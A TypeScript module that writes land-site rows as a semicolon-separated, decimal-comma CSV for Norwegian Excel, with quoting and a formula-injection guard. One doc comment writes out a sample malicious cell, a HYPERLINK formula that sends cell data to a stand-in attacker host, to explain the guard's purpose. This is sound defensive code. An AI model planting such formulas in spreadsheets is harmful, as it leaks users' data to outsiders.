// CSV of site rows for a Norwegian Excel: UTF-8 BOM, ';' separator, decimal comma, CRLF, the caller's headers (bokmål
// from src/i18n/excel.ts), formula guard.
import { isAvailableLand } from './availability';
import type { SiteRow } from './siteRows';
import { wholeNewJobs } from './capacity';
import type { AbcFit, JobsTodaySource } from './types';

/** Excel reads a file as UTF-8 only when it starts with a byte-order mark; without it "Røyken" becomes "RÃ¸yken". */
export const UTF8_BOM = '\uFEFF';
/** A Norwegian Excel splits columns on ';' because ',' is its decimal mark. */
export const EXCEL_SEPARATOR = ';';
const CRLF = '\r\n';

/**
 * The words for a site's ABC fit (the verdict and its reason), made by the caller (src/i18n/fit.ts): the domain
 * builds no sentences.
 */
export interface FitLabeller {
  verdict: (fit: AbcFit) => string;
  reason: (fit: AbcFit) => string;
}

/** The file's words, made by the caller (src/i18n/excel.ts): the column headers, yes/no and where jobs today is from. */
export interface ExcelWords extends FitLabeller {
  header: Readonly<Record<ExcelColumnKey, string>>;
  yes: string;
  no: string;
  /** Where the jobs-today figure comes from; `field` is the data's property when the source is `data`. */
  jobsTodaySource: (source: JobsTodaySource, field: string | null | undefined) => string;
}

type Cell = { text: string } | { number: number | null; decimals: number };

interface Column {
  key: ExcelColumnKey;
  value: (row: SiteRow, words: ExcelWords) => Cell;
}

const text = (value: string | null | undefined): Cell => ({ text: value ?? '' });
const num = (value: number | null | undefined, decimals: number): Cell => ({ number: value ?? null, decimals });

/**
 * The columns, in order. The figures use the report CLI's rounding (area_m2 and distances 2 decimals, daa 3, jobs
 * whole), so a cell here is the report's value with a comma for the point.
 */
export const EXCEL_COLUMN_KEYS = [
  'id',
  'name',
  'status',
  'abc',
  'readiness',
  'available',
  'region',
  'areaM2',
  'areaDaa',
  'hub',
  'hubType',
  'hubDistance',
  'hubCentroidDistance',
  'rail',
  'railDistance',
  'jobsLow',
  'jobsMid',
  'jobsHigh',
  'jobsToday',
  'jobsTodaySource',
  'newJobsLow',
  'newJobsMid',
  'newJobsHigh',
  'availableYear',
  'access',
  'verdict',
  'reason',
  'centroidLon',
  'centroidLat',
  'road',
  'roadDistance',
] as const;
export type ExcelColumnKey = (typeof EXCEL_COLUMN_KEYS)[number];

export const EXCEL_COLUMNS: readonly Column[] = [
  { key: 'id', value: (r) => text(r.id) },
  { key: 'name', value: (r) => text(r.name) },
  { key: 'status', value: (r) => text(r.status) },
  { key: 'abc', value: (r) => text(r.abc) },
  { key: 'readiness', value: (r) => text(r.readiness) },
  { key: 'available', value: (r, w) => text(isAvailableLand(r) ? w.yes : w.no) },
  { key: 'region', value: (r) => text(r.region) },
  { key: 'areaM2', value: (r) => num(r.areaM2, 2) },
  { key: 'areaDaa', value: (r) => num(r.areaDaa, 3) },
  { key: 'hub', value: (r) => text(r.hub?.name) },
  { key: 'hubType', value: (r) => text(r.hub?.type) },
  { key: 'hubDistance', value: (r) => num(r.hub?.distanceM, 2) },
  { key: 'hubCentroidDistance', value: (r) => num(r.hubCentroidDistanceM, 2) },
  { key: 'rail', value: (r) => text(r.nearestByType.tog?.name) },
  { key: 'railDistance', value: (r) => num(r.nearestByType.tog?.distanceM, 2) },
  { key: 'jobsLow', value: (r) => num(Math.round(r.jobs.low), 0) },
  { key: 'jobsMid', value: (r) => num(Math.round(r.jobs.mid), 0) },
  { key: 'jobsHigh', value: (r) => num(Math.round(r.jobs.high), 0) },
  { key: 'jobsToday', value: (r) => num(r.jobsToday, 0) },
  { key: 'jobsTodaySource', value: (r, w) => text(w.jobsTodaySource(r.jobsTodaySource, r.jobsTodayField)) },
  { key: 'newJobsLow', value: (r) => num(wholeNewJobs(r.jobs.low, r.jobsToday), 0) },
  { key: 'newJobsMid', value: (r) => num(wholeNewJobs(r.jobs.mid, r.jobsToday), 0) },
  { key: 'newJobsHigh', value: (r) => num(wholeNewJobs(r.jobs.high, r.jobsToday), 0) },
  { key: 'availableYear', value: (r) => num(r.availableYear, 0) },
  { key: 'access', value: (r) => text(r.fit.access) },
  { key: 'verdict', value: (r, fit) => text(fit.verdict(r.fit)) },
  { key: 'reason', value: (r, fit) => text(fit.reason(r.fit)) },
  { key: 'centroidLon', value: (r) => num(r.centroidLngLat[0], 6) },
  { key: 'centroidLat', value: (r) => num(r.centroidLngLat[1], 6) },
  // Empty without a road layer the user loaded: no road distance is ever guessed.
  { key: 'road', value: (r) => text(r.road ? (r.road.label ?? `(${r.road.file})`) : null) },
  { key: 'roadDistance', value: (r) => num(r.road?.distanceM, 2) },
];

/** Fixed decimals with a decimal comma and no digit grouping (a grouped "12 345,6" is text to some Excel versions). */
export function decimalComma(value: number, decimals: number): string {
  return value.toFixed(decimals).replace('.', ',');
}

/**
 * Spreadsheets run a cell that starts with = + - @ as a formula (tab and CR can hide such a start). Names come from
 * data files anyone can load, so a name like `=HYPERLINK("http://evil.example/?"&A1;"Klikk")` would send data away,
 * or start a program through DDE, when the file is opened. A leading apostrophe makes Excel and LibreOffice read the
 * cell as text. Only text cells are guarded: our own numbers never start with those characters.
 */
export function guardFormula(value: string): string {
  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
}

/** Quotes a field holding the separator, a double quote or a line break, doubling the quotes inside (RFC 4180). */
export function quoteField(value: string): string {
  return /[;"\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

function cellText(cell: Cell): string {
  if ('text' in cell) return quoteField(guardFormula(cell.text));
  return cell.number === null ? '' : decimalComma(cell.number, cell.decimals);
}

/** The whole file: BOM, header, one CRLF-terminated line per row, in the given order; `words` gives the words. */
export function formatExcelCsv(rows: readonly SiteRow[], words: ExcelWords): string {
  const lines = [EXCEL_COLUMNS.map((c) => quoteField(words.header[c.key])).join(EXCEL_SEPARATOR)];
  for (const row of rows) lines.push(EXCEL_COLUMNS.map((c) => cellText(c.value(row, words))).join(EXCEL_SEPARATOR));
  return `${UTF8_BOM}${lines.join(CRLF)}${CRLF}`;
}
